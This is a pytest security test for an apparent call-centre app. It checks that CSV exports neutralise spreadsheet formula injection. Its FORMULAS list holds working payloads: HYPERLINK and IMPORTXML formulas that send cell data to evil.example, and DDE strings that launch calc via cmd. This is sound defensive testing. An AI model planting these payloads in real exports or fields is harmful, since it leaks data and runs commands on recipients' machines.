"""No file that leaves the house runs anything in a spreadsheet: formulas in every word that strangers and colleagues
write, through every file there is, read back as a spreadsheet would."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta

import pytest
from flask import Flask
from sqlalchemy import update

from routing.skills import AgentId
from tests.journeys.world import World
from tests.pages.visitors import Visitor, signed_in
from voice_app import versions
from voice_app.ledger import looks, tables
from voice_app.ledger.looks import Look
from voice_app.line.content import content_of
from voice_app.pages.csv import BOM
from voice_app.runtime import Runtime

pytestmark = pytest.mark.threat("T23")

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Jan")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '";=1+1',
    "x;=1+1",
    'x",=1+1',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
)
BEGINS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def chloe(house: Runtime, app: Flask) -> Visitor:
    return signed_in(house, app, "chloe")


@pytest.fixture
def full(world: World) -> Iterator[World]:
    """A world in whose every word that goes into a file a formula stands: of callers, programs, and by hand in the
    database, where nobody can write one, because nobody may have to."""
    for number, formula in enumerate(FORMULAS):
        world.api("POST", "/api/promises", phone=f"+316{number + 10}330011", note=formula)
    for number, promise in enumerate(world.promises()):
        world.api("POST", f"/api/promises/{promise.id}/withdraw", reason=FORMULAS[number % len(FORMULAS)])
    with world.house.ledger.write() as ledger:
        rows = ledger.execute(tables.promises.select()).all()
        for number, row in enumerate(rows):
            word = FORMULAS[number % len(FORMULAS)]
            its = update(tables.promises).where(tables.promises.c.id == row.id)
            late = {"due_by": row.made_at + timedelta(seconds=1), "broken_at": row.made_at + timedelta(seconds=2)}
            ledger.execute(
                its.values(need=word, phone=word, broken_because=word, state="withdrawn", closed_at=world.now, **late)
            )
        looks.note(ledger, Look(AgentId("chloe"), "promise", "P1", world.now))
    people = content_of(versions.newest(world.house).line)["agent"]
    world.edits(agent=[person | {"name": f"{FORMULAS[0]} {person['name']}"} for person in people])
    yield world
    with world.house.ledger.write() as ledger:
        ledger.execute(update(tables.promises).values(broken_at=None))  # by hand, and so on no timeline


FILES = ("compliance/promises", "compliance/misses", "compliance/causes", "compliance/waits", "compliance/groups")


def cells(text: str, delimiter: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter) for cell in row
    ]


def test_no_cell_of_any_file_is_a_formula(full: World, chloe: Visitor) -> None:
    queries = {"compliance/groups": "?by=agent"}
    seen = ""
    for file in (*FILES, "privacy/looks"):
        answer = chloe.get(f"/{file}.csv{queries.get(file, '')}")
        assert answer.status_code == 200, file
        assert answer.mimetype == "text/csv"
        seen += answer.text
        for delimiter in (",", ";", "\t"):
            for cell in cells(answer.text, delimiter):
                is_number = cell.removeprefix("-").replace(".", "").isdecimal()
                assert is_number or not cell.lstrip(" \n").startswith(BEGINS), (file, delimiter, cell)
    assert "HYPERLINK" in seen
    assert "calc" in seen


def test_every_file_there_is_was_looked_at(app: Flask) -> None:
    files = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert files == {f"/{file}.csv" for file in (*FILES, "privacy/looks")}


def test_all_that_there_is_of_a_person_is_json_in_which_a_formula_is_a_word(full: World) -> None:
    answer = full.api("POST", "/api/persons/export", phone="+31610330011")
    assert answer.mimetype == "application/json"
    json.loads(answer.text)
